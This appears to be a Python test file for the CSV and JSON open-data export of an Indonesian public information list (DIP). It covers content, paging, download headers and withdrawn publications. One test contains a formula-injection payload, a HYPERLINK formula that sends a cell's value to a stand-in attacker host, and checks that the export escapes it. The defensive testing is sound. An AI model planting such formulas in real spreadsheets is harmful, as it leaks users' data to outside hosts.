"""The DIP as open data (/dip.csv, /dip.json): every public item and nothing else, with the very
columns and cells of the staff `/dip` export, downloads with a safe name, streamed from the
register a page at a time, and no cell a spreadsheet would run as a formula; a withdrawn post
gives the item back its earlier publication."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

import httpx
import pytest

from bot import public_site
from bot.dip_export import dip_headers, export_dip, plan_dip
from tests.bot.cycle_helpers import ADMIN_ID, Office, person
from tests.web.html_reading import table
from tests.web.publishing import publish_again, publish_item, publish_new, publish_with_data_file, withdraw_publication
from tests.web.register_mix import HIDDEN, LEGAL_BASIS, PUBLISHED, PUBLISHED_OTHER, mixed_register
from storage.public_site import PublicSiteRepository

HEADERS = dip_headers("WIB")
LAST_PUBLISHED = "Terakhir diumumkan (WIB)"


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, as the staff export (Excel reads it right)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


async def test_both_files_hold_exactly_the_public_items_with_the_staff_exports_cells(
    office: Office, site: httpx.AsyncClient
) -> None:
    register = await mixed_register(office)

    response = await site.get("/dip.csv")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == "attachment; filename=\"DIP-2026-11-30.csv\"; filename*=UTF-8''DIP-2026-11-30.csv"
    assert response.headers["x-content-type-options"] == "nosniff"
    rows = csv_rows(response.content)
    assert rows[0] == HEADERS
    assert rows[1] == [
        "1", str(register.published), PUBLISHED, "Dinas Sosial", "Kepala Bidang", "Pontianak, 2026", "Softcopy", "5 tahun",
        "Berkala", "Semesteran", "", "Aktif", "2026-11-30 09:00", "https://t.me/c/1000000001/1", "",
    ]
    assert [(row[0], row[1], row[2]) for row in rows[1:]] == [
        ("1", str(register.published), PUBLISHED), ("2", str(register.published_other), PUBLISHED_OTHER),
    ]
    for hidden in (*HIDDEN, LEGAL_BASIS):
        assert hidden.encode() not in response.content, hidden

    # The same cells as the staff export's rows of those items (its "No" counts every item).
    admin = await person(office, ADMIN_ID)
    staff = await export_dip(office.services, admin, await plan_dip(office.services, admin))
    staff_rows = {row[1]: row for row in csv_rows(staff.csv.data)[1:]}
    assert csv_rows(staff.csv.data)[0] == HEADERS
    for row in rows[1:]:
        assert row[1:] == staff_rows[row[1]][1:]
    assert rows[1][HEADERS.index(LAST_PUBLISHED)] == "2026-11-30 09:00"
    assert rows[1][HEADERS.index("Tautan di kanal publik")].startswith("https://t.me/")

    document = await site.get("/dip.json")
    assert document.status_code == 200 and document.headers["content-type"] == "application/json"
    assert document.headers["content-disposition"].startswith('attachment; filename="DIP-2026-11-30.json"')
    data: dict[str, Any] = json.loads(document.content.decode("utf-8"))
    assert data["title"] == "Daftar Informasi Publik (DIP)"
    assert data["organisation"] == office.services.sop.header.organisation
    assert data["generated_at"] == "2026-11-30T09:00:00+07:00" and data["language"] == "id"
    assert data["columns"] == HEADERS
    assert [list(item) for item in data["items"]] == [HEADERS, HEADERS]
    assert [item["Ringkasan isi informasi"] for item in data["items"]] == [PUBLISHED, PUBLISHED_OTHER]
    first = data["items"][0]
    assert first["No"] == 1 and first["ID informasi"] == register.published
    assert first[LAST_PUBLISHED] == "2026-11-30T09:00:00+07:00"
    assert first["Periode pembaruan"] == "Semesteran" and data["items"][1]["Periode pembaruan"] is None
    assert first["Dasar hukum pengecualian"] is None and first["Status"] == "Aktif"
    # Every other cell as in the CSV.
    for item, row in zip(data["items"], rows[1:], strict=True):
        for index, header in enumerate(HEADERS):
            if header != LAST_PUBLISHED:
                assert ("" if item[header] is None else str(item[header])) == row[index], header
    for hidden in HIDDEN:
        assert hidden not in document.text


async def test_an_empty_register_gives_the_header_row_and_an_empty_list(site: httpx.AsyncClient) -> None:
    assert csv_rows((await site.get("/dip.csv")).content) == [HEADERS]
    data = json.loads((await site.get("/dip.json")).content)
    assert data["items"] == [] and data["columns"] == HEADERS


async def test_a_cell_that_looks_like_a_formula_stays_text_in_the_csv(office: Office, site: httpx.AsyncClient) -> None:
    formula = '=HYPERLINK("https://jahat.example/?x="&A1;"Klik")'
    await publish_new(office, formula)
    await publish_new(office, "@SUM(1+1) Laporan")
    await publish_new(office, "-2+3 Rekap Anggaran")

    rows = csv_rows((await site.get("/dip.csv")).content)
    summaries = [row[2] for row in rows[1:]]
    assert summaries == ["'" + formula, "'@SUM(1+1) Laporan", "'-2+3 Rekap Anggaran"]
    for row in rows[1:]:
        assert not row[2].startswith(("=", "+", "-", "@"))
    # JSON is no spreadsheet: the value is the register's own.
    data = json.loads((await site.get("/dip.json")).content)
    assert [item["Ringkasan isi informasi"] for item in data["items"]] == [formula, "@SUM(1+1) Laporan", "-2+3 Rekap Anggaran"]


async def test_the_rows_are_read_a_page_at_a_time(
    office: Office, site: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(public_site, "OPEN_DATA_PAGE_SIZE", 2)
    ids = [(await publish_item(office, summary))[0] for summary in ("Anggaran A", "Belanja B", "Capaian C")]
    reads: list[tuple[int, int]] = []
    original = PublicSiteRepository.dip_after

    async def counted(self: PublicSiteRepository, after_id: int, limit: int) -> Any:
        reads.append((after_id, limit))
        return await original(self, after_id, limit)

    monkeypatch.setattr(PublicSiteRepository, "dip_after", counted)

    rows = csv_rows((await site.get("/dip.csv")).content)

    assert [(row[0], row[1]) for row in rows[1:]] == [("1", str(ids[0])), ("2", str(ids[1])), ("3", str(ids[2]))]
    assert reads == [(0, 2), (ids[1], 2)]  # two pages of at most two rows; the short second page ends it
    reads.clear()
    data = json.loads((await site.get("/dip.json")).content)
    assert [item["No"] for item in data["items"]] == [1, 2, 3] and reads == [(0, 2), (ids[1], 2)]


async def test_the_data_file_link_is_the_one_posted_with_the_latest_publication(
    office: Office, site: httpx.AsyncClient
) -> None:
    item_id, cycle_id = await publish_with_data_file(office, "Daftar Aset Daerah 2026")
    message_id = await office.db_value(
        "SELECT message_id FROM channel_messages WHERE cycle_id = ? ORDER BY message_id DESC LIMIT 1", cycle_id
    )

    rows = csv_rows((await site.get("/dip.csv")).content)
    data = json.loads((await site.get("/dip.json")).content)

    link = f"https://t.me/c/1000000001/{message_id}"
    assert rows[1][1] == str(item_id) and rows[1][-1] == link and rows[1][-2] != link
    assert data["items"][0]["Tautan File Informasi Data"] == link


async def test_a_withdrawn_later_publication_gives_back_the_earlier_one(office: Office, site: httpx.AsyncClient) -> None:
    item_id, first_cycle = await publish_new(office, PUBLISHED)
    first_post = await office.db_value("SELECT channel_message_id FROM publications WHERE cycle_id = ?", first_cycle)
    office.clock.advance(timedelta(days=3))
    second_cycle = await publish_again(office, item_id)
    assert csv_rows((await site.get("/dip.csv")).content)[1][HEADERS.index(LAST_PUBLISHED)] == "2026-12-03 09:00"

    await withdraw_publication(office, second_cycle)

    rows = csv_rows((await site.get("/dip.csv")).content)
    assert len(rows) == 2
    assert rows[1][HEADERS.index(LAST_PUBLISHED)] == "2026-11-30 09:00"
    assert rows[1][HEADERS.index("Tautan di kanal publik")] == f"https://t.me/c/1000000001/{first_post}"
    page = await site.get("/dip/")
    assert [row[-1] for row in table(page.text, "dip").rows] == ["30 Nov 2026 09.00 WIB"]
